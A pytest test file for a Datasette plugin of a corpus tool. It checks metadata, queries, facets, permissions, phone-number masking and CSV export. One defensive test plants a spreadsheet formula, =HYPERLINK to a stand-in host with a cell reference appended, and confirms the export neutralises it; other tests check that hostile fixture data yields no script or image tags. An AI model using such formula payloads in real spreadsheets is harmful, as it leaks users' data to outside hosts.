"""Datasette's own tables and queries of a corpus: explained, linked, folded, and with answers in them."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import shutil
import sqlite3
import subprocess
import sys
from contextlib import closing
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from datasette.app import Datasette
from hypothesis import given
from hypothesis import strategies as st
from sqlite_utils import Database

from chaffinch.corpus import connect
from chaffinch.corpus.schema import migrations
from chaffinch.faces.datasette_plugin.tables.csv_cells import defusing
from chaffinch.faces.datasette_plugin.tables.tables import _metadata
from chaffinch.text.say import defused
from tests.conftest import PATIENT
from tests.faces.datasette.hostile import build
from tests.warm import Warm


@pytest.fixture(scope="module")
def demo(warm: Warm, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The corpus of `chaffinch demo`, after one of its articles was edited."""
    folder = tmp_path_factory.mktemp("demo")
    path = folder / "corpus.db"
    warm.run(["demo", "-s", f"CORPUS={path}"], folder).check_returncode()
    url, text = Database(path).execute("SELECT url, text FROM articles WHERE gone_at IS NULL ORDER BY id").fetchone()
    edited = folder / "edited.jsonl"
    edited.write_text(
        json.dumps({"url": url, "text": text + "\n编辑补充：协商以前，先把手里的账单和合同都找出来核对一遍。"})
    )
    warm.run(["ingest", edited, "-s", f"CORPUS={path}"], folder).check_returncode()
    return path


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "corpus.db"
    build(path)
    return path


def get(path: Path, *pages: str, metadata: dict[str, Any] | None = None, **settings: object) -> list[Any]:
    async def fetch() -> list[Any]:
        given = {**PATIENT, **settings}
        datasette: Any = Datasette([str(path)], metadata=metadata, settings=given)  # type: ignore[no-untyped-call]
        await datasette.invoke_startup()
        return [await datasette.client.get(page) for page in pages]

    return asyncio.run(fetch())


def test_every_table_view_and_column_is_explained_or_hidden() -> None:
    db = Database(memory=True)
    migrations.apply(db)
    told = _metadata()["tables"]
    for table in (*db.tables, *db.views):
        if table.name.startswith("articles_fts_"):
            continue  # hidden by Datasette itself
        about = told[table.name]
        assert about["description"] and (about.get("title") or about.get("hidden")), table.name
        assert set(about["columns"]) == set(table.columns_dict), table.name
        assert all(about["columns"].values()), table.name
    assert set(told) <= {table.name for table in (*db.tables, *db.views)}


def test_every_query_has_a_title_a_description_and_rows_on_the_demo(demo: Path) -> None:
    queries = _metadata()["queries"]
    for name, answer in zip(queries, get(demo, *(f"/corpus/{name}.json?_shape=array&search=逾期" for name in queries)),
                            strict=True):  # fmt: skip
        assert queries[name]["title"] and queries[name]["description"].endswith("."), name
        assert answer.status_code == 200 and answer.json(), (name, answer.text)


def test_queries_lead_on_and_draw_shares(demo: Path) -> None:
    spliced, changed, since, contacts, first = get(
        demo, "/corpus/spliced", "/corpus/changed_since", "/corpus/changed_since.json?since=2999-01-01",
        "/corpus/shared_contacts", "/corpus/first_publisher",
    )  # fmt: skip
    assert re.search(r'href="/corpus/-/article/\d+"', spliced.text) and '<svg class="share"' in spliced.text
    assert re.search(r'href="/corpus/-/compare\?a=(\d+)@1&amp;b=\1"', changed.text)
    assert since.json()["rows"] == []
    assert re.search(r'href="/corpus/article_contacts\?contact_id=\d+"', contacts.text)
    assert '<svg class="share"' in first.text
    assert re.search(r'<a href="/corpus/-/article/\d+">[^<0-9]', spliced.text)
    assert re.search(r'<a href="/corpus/articles\?site__exact=yuqi.localhost%3A\d+">yuqi', first.text)
    assert "<pre" not in first.text  # the SQL is behind a click, so that a first screen shows rows
    rows = get(demo, "/corpus/spliced.json?_shape=array")[0].json()
    shares = dict(Database(demo).execute("SELECT article_id, share_not_own FROM mosaic WHERE sources > 1").fetchall())
    assert {row["article"]: round(row["share_not_own"], 4) for row in rows} == shares
    site = rows[0]["site"]
    assert {row["site"] for row in get(demo, f"/corpus/spliced.json?_shape=array&site={site}")[0].json()} == {site}


def test_the_first_cluster_after_a_start_is_within_the_time_limit(demo: Path) -> None:
    (cluster,) = Database(demo).execute("SELECT id FROM clusters ORDER BY size DESC").fetchone()
    command = [sys.executable, "-m", "datasette", str(demo), "--setting", "sql_time_limit_ms", "500", "--get"]
    found = subprocess.run([*command, f"/corpus/-/cluster/{cluster}"], capture_output=True, text=True)
    assert found.returncode == 0, found.stdout[:2_000]


def test_facets_count_by_site_topic_script_and_month(demo: Path) -> None:
    (answer,) = get(demo, "/corpus/articles.json?_size=1")
    facets = answer.json()["facet_results"]
    assert set(facets) == {"site", "topic", "script", "published"}
    month = facets["published"]["results"][0]
    (chosen,) = get(demo, month["toggle_url"].removeprefix("http://localhost"))
    assert chosen.json()["filtered_table_rows_count"] == month["count"]
    again = chosen.json()["facet_results"]["published"]["results"]
    assert [(value["value"], value["selected"]) for value in again] == [(month["value"], True)]
    assert "published__startswith" not in again[0]["toggle_url"]
    for column in facets:
        count = f"SELECT {column}, count(*) FROM articles WHERE {column} IS NOT NULL GROUP BY 1 ORDER BY 2"
        plan = Database(demo).execute(f"EXPLAIN QUERY PLAN {count}").fetchone()[3]
        assert "COVERING INDEX" in plan, plan  # through the texts it would take longer than Datasette waits


def test_sorted_tables_page_through_every_row_once(demo: Path) -> None:
    db = Database(demo)
    for table, column in (("articles", "site"), ("articles", "published"), ("removed", "rule"), ("similarities", "a")):
        for order in ("_sort", "_sort_desc"):
            address = f"/corpus/{table}.csv?_stream=1&{order}={column}"
            rows = list(
                csv.reader(
                    io.StringIO(get(demo, address, max_returned_rows=20, default_page_size=20)[0].text, newline="")
                )
            )
            assert len(rows) - 1 == db.table(table).count, address
            assert len(set(map(tuple, rows))) == len(rows), address
    own = "select id, site from articles where id < 3 union select 0, '~' from pages order by site limit 9"
    (answer,) = get(demo, f"/corpus.json?sql={own}&_shape=array")
    assert [row["id"] for row in answer.json()][-1] == 0 and len(answer.json()) == 3


def test_foreign_keys_and_views_show_titles(demo: Path) -> None:
    title = Database(demo).execute("SELECT title FROM articles JOIN mosaic ON article_id = id").fetchone()[0]
    pages = ("mosaic", "paragraph_sources", "removed", "events?kind=edited", "clusters", "similarities")
    for page, answer in zip(pages, get(demo, *(f"/corpus/{page}" for page in pages)), strict=True):
        assert answer.status_code == 200, page
        assert re.search(r'<a href="/corpus/-/article/\d+">[^<0-9]', answer.text), page
    assert title in get(demo, "/corpus/mosaic?_size=max")[0].text


def test_long_text_is_folded_and_hidden_tables_are_not_shown(demo: Path, hostile: Path) -> None:
    articles, database = get(demo, "/corpus/articles?_size=3", "/corpus")
    assert articles.text.count('<details class="folded">') >= 3 and "tables.css" in articles.text
    for name in ("articles", "mosaic", "paragraph_sources", "events"):
        assert f'<a href="/corpus/{name}">' in database.text, name
    for name in ("search_folds", "articles_fts", "simhash_runs", "sketch_runs", "article_paragraphs", "parts"):
        assert f'<a href="/corpus/{name}">' not in database.text, name
    for page in ("articles", "removed", "versions", "articles/1", "mosaic", "paragraph_sources", "events", "crawls"):
        (answer,) = get(hostile, f"/corpus/{page}")
        assert answer.status_code == 200 and "<img" not in answer.text and "<script>alert" not in answer.text, page


def test_what_the_users_metadata_says_comes_first(hostile: Path) -> None:
    queries = {
        "search": {"sql": "SELECT 1 AS mine"},
        "spliced": "SELECT 2 AS mine",
        "most_copied": {"title": "Mine"},
        "not_kept": {"allow": False},
    }
    corpus = {
        "description": "Of <ours>",
        "queries": queries,
        "tables": {"articles": {"facets": ["author"], "sort": "title"}},
    }
    metadata = {"title": "Mine", "description": "All <here>", "databases": {"corpus": corpus}}
    pages = ["/", "/corpus", "/corpus/most_copied", "/corpus/articles.json?_size=0"]
    own = ["/corpus/search.json?_shape=array", "/corpus/spliced.json?_shape=array", "/corpus/not_kept.json"]
    front, database, copied, articles, search, spliced, denied = get(hostile, *pages, *own, metadata=metadata)
    assert "<h1>Mine" in front.text and "<p>All &lt;here&gt;</p>" in front.text and "-/overview" in front.text
    assert "Of &lt;ours&gt;" in database.text and "-/overview" in database.text
    assert "not_kept" not in database.text and denied.status_code == 403
    assert search.json() == [{"mine": 1}] and spliced.json() == [{"mine": 2}]
    assert "<h1 style" in copied.text and ">Mine" in copied.text and "most_copied" in copied.text
    assert set(articles.json()["facet_results"]) == {"author"}


def test_what_may_not_be_seen_is_not_seen_another_way(hostile: Path) -> None:
    tables = {"articles": {"allow": False}}
    queries = {"first_publisher": {"allow": True}}
    names = (
        "search.json?search=x",
        "articles_tokens",
        "articles_fts",
        "mosaic",
        "spliced",
        "not_kept",
        "first_publisher",
    )
    told = {"databases": {"corpus": {"allow_sql": False, "tables": tables, "queries": queries}}}
    answers = get(hostile, *(f"/corpus/{name}" for name in names), metadata=told)
    assert [answer.status_code for answer in answers] == [403] * 5 + [200] * 2
    (front,) = get(hostile, "/", metadata={"databases": {"corpus": {"allow": False}}})
    assert front.status_code == 200 and "/corpus" not in front.text


def test_a_database_that_is_no_corpus_is_left_alone(tmp_path: Path) -> None:
    path = tmp_path / "other.db"
    Database(path).table("articles").insert({"id": 1, "title": "x" * 200, "share": 0.5})
    front, table = get(path, "/", "/other/articles")
    assert "Chaffinch" not in front.text and "folded" not in table.text and "<dl" not in table.text


def test_a_corpus_that_is_empty_has_tables_and_queries(tmp_path: Path) -> None:
    path = tmp_path / "corpus.db"
    with connect.lock(path, "test"):
        connect.open_writer(path).conn.close()
    pages = (*_metadata()["queries"], *(name for name, about in _metadata()["tables"].items() if "hidden" not in about))
    assert {answer.status_code for answer in get(path, *(f"/corpus/{page}" for page in pages))} == {200}


# ---- CSV ----

CELLS = st.one_of(st.text("=+-@\t\r\n\"',; 1.e＝a\0", max_size=6), st.text(max_size=4), st.just("=" * 200_000))


@given(st.lists(st.lists(CELLS, min_size=1, max_size=3), max_size=4), st.lists(st.integers(0, 60), max_size=5))
def test_csv_is_defused_cell_by_cell_however_it_is_cut(rows: list[list[str]], cuts: list[int]) -> None:
    written = io.StringIO(newline="")
    csv.writer(written).writerows(rows)
    data = written.getvalue().encode("utf-8")
    places = [0, *sorted(min(cut, len(data)) for cut in cuts), len(data)]
    feed = defusing()
    pieces = [feed(data[start:end], False) for start, end in pairwise(places)]
    answer = (b"".join(pieces) + feed(b"", True)).decode("utf-8")
    former = csv.field_size_limit(1 << 20)
    try:
        found = list(csv.reader(io.StringIO(answer, newline="")))
    finally:
        csv.field_size_limit(former)
    assert len(found) == len(rows)
    for row, cells in zip(rows, found, strict=True):
        for cell, shown in zip(row, cells, strict=True):
            is_number = re.fullmatch(r"-?[0-9]+(\.[0-9]+)?(e[+-]?[0-9]+)?", cell)
            assert shown == (cell if is_number else defused(cell))


def test_csv_of_a_corpus_runs_nothing_in_a_spreadsheet(tmp_path: Path) -> None:
    path = tmp_path / "corpus.db"
    build(path)
    formula = '=HYPERLINK("http://elsewhere.test/"&A1)\n@x'
    with Database(path).conn as connection:
        connection.execute("UPDATE removed SET text = ? WHERE article_id = 1", (formula,))
        connection.execute("UPDATE articles SET simhash = -5 WHERE id = 1")
    (table, streamed, row, query, text) = get(
        path, "/corpus/removed.csv", "/corpus/removed.csv?_stream=on&_labels=on&_dl=1",
        "/corpus/articles.csv?_col=simhash&id=1", "/corpus.csv?sql=select+'@a'+as+a,'b'+as+'=b'", "/corpus/removed",
    )  # fmt: skip
    for answer in (table, streamed):
        rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
        assert {row["text"] for row in rows if row["article_id"] == "1"} == {f"'{formula}"}
        assert len(rows) == 8
    assert row.text.splitlines()[1] == "1,-5"
    assert query.text.splitlines() == ["a,'=b", "'@a,b"]
    assert "HYPERLINK" in text.text
    other = tmp_path / "other.db"
    Database(other).table("t").insert({"a": "=1+1"})
    assert get(other, "/other/t.csv")[0].text.splitlines()[1] == "1,=1+1"


def test_a_schema_that_changes_beside_the_server_is_seen(demo: Path, tmp_path: Path) -> None:
    path = Path(shutil.copy(demo, tmp_path))

    async def columns() -> list[set[str]]:
        datasette: Any = Datasette([str(path)], settings=PATIENT)  # type: ignore[no-untyped-call]
        await datasette.invoke_startup()
        found = []
        for statement in ("SELECT 1", "ALTER TABLE articles ADD COLUMN note TEXT"):
            with closing(sqlite3.connect(path)) as connection:
                connection.execute(statement)
            answer = await datasette.client.get("/corpus/articles.json?_shape=objects&_size=1")
            found.append(set(answer.json()["rows"][0]))
        return found

    before, after = asyncio.run(columns())
    assert after - before == {"note"}


def test_addresses_with_a_contact_are_masked_wherever_a_page_names_them(tmp_path: Path) -> None:
    path = tmp_path / "corpus.db"
    build(path)
    number = "13812345678"
    with Database(path).conn as connection:
        connection.execute(
            "UPDATE pages SET url = ?, linked = ?, spelling = ? WHERE id = 1",
            (
                f"http://a.example/tel-{number}.html",
                f"http://a.example/tel-{number}.html?x=1",
                f"http://{number}.example/",
            ),
        )
        connection.execute("UPDATE pages SET found_on = 1, url = 'http://a.example/plain.html' WHERE id = 2")
        connection.execute("UPDATE articles SET site = ? WHERE id = 1", (f"{number}.example",))
    query = "/corpus?sql=select+url+from+pages"
    pages, row, asked = get(path, "/corpus/pages", "/corpus/pages/1", query)
    for answer in (pages, row, asked):
        assert answer.status_code == 200 and number not in answer.text, answer.url
        assert "http://a.example/tel-⟨phone⟩.html" in answer.text, answer.url
    assert '<a href="http://a.example/plain.html">' in pages.text
    for answer in get(path, *(f"/corpus/{page}" for page in ("-/sites", "-/search", "-/cluster/1", "articles/1"))):
        shown = re.sub(r'(href|id)="[^"]*"', "", answer.text)  # a link has to name the site that it leads to
        assert answer.status_code == 200 and number not in shown and "⟨phone⟩.example" in shown, answer.url
